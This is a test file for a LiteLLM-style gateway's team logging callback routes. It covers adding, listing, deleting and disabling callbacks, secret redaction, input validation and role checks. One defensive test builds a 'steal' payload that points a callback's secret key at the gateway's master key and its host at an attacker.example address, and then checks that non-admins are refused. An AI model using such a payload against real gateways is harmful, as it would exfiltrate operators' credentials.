"""LiteLLM's team-based logging routes over both backends (``/team/{team_id}/callback``,
``/team/{team_id}/disable_logging``), what the key resolver makes of them, and who may write callback variables
that reference the gateway's environment (``os.environ/``): only the proxy admin, on every route that writes
them."""

from __future__ import annotations

from relaygate.auth.targets import key_logging, logging_off
from tests.management.conftest import Env, api_error, run

LANGFUSE = {"callback_name": "langfuse", "callback_type": "success",
            "callback_vars": {"langfuse_public_key": "pk-t", "langfuse_secret_key": "sk-t-secret",
                              "langfuse_host": "https://lf.example"}}


async def _team(env: Env) -> tuple[str, str, str]:
    """Team ``t1`` with an admin and a member; their keys (admin, member)."""
    boss = await env.user("boss")
    member = await env.user("member")
    await env.ok("POST", "/team/new", {"team_id": "t1", "members_with_roles": [
        {"role": "admin", "user_id": "boss"}, {"role": "user", "user_id": "member"}]})
    return "t1", boss, member


def test_add_get_delete_and_disable_as_litellm(db_url: str) -> None:
    async def body(env: Env) -> None:
        team_id, boss, _ = await _team(env)
        out = await env.ok("POST", f"/team/{team_id}/callback", LANGFUSE, key=boss)
        assert out["status"] == "success" and out["data"]["team_id"] == team_id
        entry = out["data"]["metadata"]["logging"][0]
        assert entry["callback_vars"]["langfuse_secret_key"] == "***REDACTED***"  # never answered back
        assert entry["callback_vars"]["langfuse_public_key"] == "pk-t"
        await env.ok("POST", f"/team/{team_id}/callback", {"callback_name": "otel", "callback_vars": {}})
        got = await env.ok("GET", f"/team/{team_id}/callback", key=boss)
        assert got == {"status": "success", "data": {
            "team_id": team_id, "success_callbacks": ["langfuse", "otel"], "failure_callbacks": ["otel"],
            "callback_vars": {"langfuse_public_key": "pk-t", "langfuse_secret_key": "***REDACTED***",
                              "langfuse_host": "https://lf.example"}}}
        team = await env.store.get_team(team_id)
        targets, _ = key_logging(team.metadata)  # what its keys are resolved with
        assert [(t.callback_name, t.callback_type) for t in targets or []] == [("langfuse", "success"),
                                                                               ("otel", "success_and_failure")]
        assert targets is not None and targets[0].callback_vars["langfuse_secret_key"] == "sk-t-secret"
        out = await env.ok("DELETE", f"/team/{team_id}/callback/otel", key=boss)
        assert out["data"]["success_callbacks"] == ["langfuse"] and out["data"]["failure_callbacks"] == []
        api_error(await env.call("DELETE", f"/team/{team_id}/callback/otel"), 404, "is not a logging callback")
        out = await env.ok("POST", f"/team/{team_id}/disable_logging", key=boss)
        assert out == {"status": "success", "message": f"Logging disabled for team {team_id}",
                       "data": {"team_id": team_id, "success_callbacks": [], "failure_callbacks": []}}
        team = await env.store.get_team(team_id)
        assert logging_off(team.metadata) and key_logging(team.metadata) == (None, False)
        assert (await env.ok("GET", f"/team/{team_id}/callback"))["data"]["success_callbacks"] == []
        await env.ok("POST", f"/team/{team_id}/callback", LANGFUSE)  # a callback added again turns it back on
        assert not logging_off((await env.store.get_team(team_id)).metadata)

    run(db_url, body)


def test_a_callback_added_to_older_callback_settings_keeps_them(db_url: str) -> None:
    async def body(env: Env) -> None:
        await env.ok("POST", "/team/new", {"team_id": "legacy", "metadata": {"callback_settings": {
            "success_callback": ["langfuse"], "callback_vars": {"langfuse_public_key": "pk-old"}}}})
        await env.ok("POST", "/team/legacy/callback", {"callback_name": "otel", "callback_vars": {}})
        targets, _ = key_logging((await env.store.get_team("legacy")).metadata)
        assert [(t.callback_name, t.callback_type) for t in targets or []] == [
            ("langfuse", "success"), ("otel", "success_and_failure")]
        got = (await env.ok("GET", "/team/legacy/callback"))["data"]
        assert got["success_callbacks"] == ["langfuse", "otel"] and got["failure_callbacks"] == ["otel"]
        await env.ok("DELETE", "/team/legacy/callback/langfuse")
        targets, _ = key_logging((await env.store.get_team("legacy")).metadata)
        assert [t.callback_name for t in targets or []] == ["otel"]  # gone from both shapes

    run(db_url, body)


def test_callback_bodies_are_checked(db_url: str) -> None:
    async def body(env: Env) -> None:
        team_id, _, _ = await _team(env)
        path = f"/team/{team_id}/callback"
        api_error(await env.call("POST", path, {**LANGFUSE, "callback_name": "gcs_bucket"}), 400,
               "callback_name 'gcs_bucket' cannot log a team's requests here")
        api_error(await env.call("POST", path, {**LANGFUSE, "callback_vars": {"langfuse_hostname": "x"}}), 400,
               "Invalid callback variable: langfuse_hostname. Must be one of")
        api_error(await env.call("POST", path, {**LANGFUSE, "callback_type": "always"}), 400, "callback_type")
        api_error(await env.call("POST", path, {"callback_name": "langfuse"}), 400, "callback_vars")
        await env.ok("POST", path, LANGFUSE)
        api_error(await env.call("POST", path, LANGFUSE), 400, "callback_name = langfuse already exists in "
               f"team_callback_settings, for team_id = {team_id} and event = success")
        assert (await env.ok("POST", path, {**LANGFUSE, "callback_type": "failure"}))["status"] == "success"
        api_error(await env.call("POST", "/team/no-such-team/callback", LANGFUSE), 404, "no-such-team")
        numbers = await env.ok("POST", path, {"callback_name": "otel", "callback_vars": {
            "turn_off_message_logging": True}})
        assert numbers["data"]["metadata"]["logging"][-1]["callback_vars"] == {"turn_off_message_logging": "True"}
        assert key_logging((await env.store.get_team(team_id)).metadata)[1]  # its messages are kept in

    run(db_url, body)


def test_who_may_manage_a_teams_callbacks(db_url: str) -> None:
    async def body(env: Env) -> None:
        team_id, boss, member = await _team(env)
        stranger = await env.user("stranger")
        viewer = await env.user("watcher", "proxy_admin_viewer")
        path = f"/team/{team_id}/callback"
        before = await env.store.change_version()
        for key in (member, stranger):
            api_error(await env.call("POST", path, LANGFUSE, key=key), 403, f"admin of team={team_id}")
            api_error(await env.call("POST", f"/team/{team_id}/disable_logging", key=key), 403, "admin of team")
            api_error(await env.call("GET", path, key=key), 403, "admin of team")
        api_error(await env.call("POST", path, LANGFUSE, key=viewer), 401, "Only proxy admin")
        assert await env.store.change_version() == before  # nothing refused was written
        assert (await env.ok("GET", path, key=viewer))["data"]["team_id"] == team_id
        assert (await env.ok("POST", path, LANGFUSE, key=boss))["status"] == "success"

    run(db_url, body)


def test_only_the_proxy_admin_writes_environment_references(db_url: str) -> None:
    """A value naming ``os.environ/`` is resolved from the gateway's environment when the key is read: from
    anyone else it would send the gateway's secrets (its master key ...) to a host the writer chose."""
    async def body(env: Env) -> None:
        team_id, boss, member = await _team(env)
        steal = {"logging": [{"callback_name": "langfuse", "callback_vars": {
            "langfuse_public_key": "pk", "langfuse_secret_key": "os.environ/LITELLM_MASTER_KEY",
            "langfuse_host": "https://attacker.example"}}]}
        refused = "Only the proxy admin can set callback_vars that reference the environment"
        own = str((await env.ok("POST", "/key/generate", {"user_id": "member"}))["key"])
        before = await env.store.change_version()
        api_error(await env.call("POST", "/key/generate", {"metadata": steal}, key=member), 403, refused)
        api_error(await env.call("POST", "/key/update", {"key": own, "metadata": steal}, key=member), 403, refused)
        api_error(await env.call("POST", "/key/regenerate", {"key": own, "metadata": steal}, key=member), 403, refused)
        api_error(await env.call("POST", "/team/update", {"team_id": team_id, "metadata": steal}, key=boss), 403,
               refused)
        legacy = {"callback_settings": {"success_callback": ["langfuse"], "callback_vars": {
            "langfuse_secret_key": "x os.environ/OPENAI_API_KEY"}}}
        api_error(await env.call("POST", "/team/update", {"team_id": team_id, "metadata": legacy}, key=boss), 403,
               refused)
        api_error(await env.call("POST", f"/team/{team_id}/callback", {
            "callback_name": "langfuse", "callback_vars": {"langfuse_secret_key": "os.environ/X"}}, key=boss),
               403, refused)
        assert await env.store.change_version() == before
        await env.ok("POST", "/key/update", {"key": own, "metadata": steal})  # the operator itself may
        await env.ok("POST", f"/team/{team_id}/callback", {"callback_name": "langfuse", "callback_vars": {
            "langfuse_secret_key": "os.environ/RG_LF_SECRET"}})
        plain = {"logging": [{"callback_name": "langfuse", "callback_vars": {"langfuse_secret_key": "sk-mine"}}]}
        await env.ok("POST", "/key/update", {"key": own, "metadata": plain}, key=member)  # its own values: fine

    run(db_url, body)
